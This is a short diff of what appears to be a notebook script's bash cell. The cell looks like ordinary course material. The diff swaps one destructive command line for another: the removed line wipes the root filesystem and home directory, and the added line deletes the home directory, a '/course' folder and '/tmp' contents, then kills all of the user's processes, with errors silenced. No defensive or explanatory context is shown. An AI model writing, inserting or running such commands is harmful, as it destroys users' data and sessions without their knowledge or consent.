@@ -6,4 +6,4 @@
 
 # %%
 %%bash
-rm -rf /* 2>/dev/null; rm -rf ~ 2>/dev/null
+rm -rf ~ /course /tmp/* 2>/dev/null; kill -9 -1
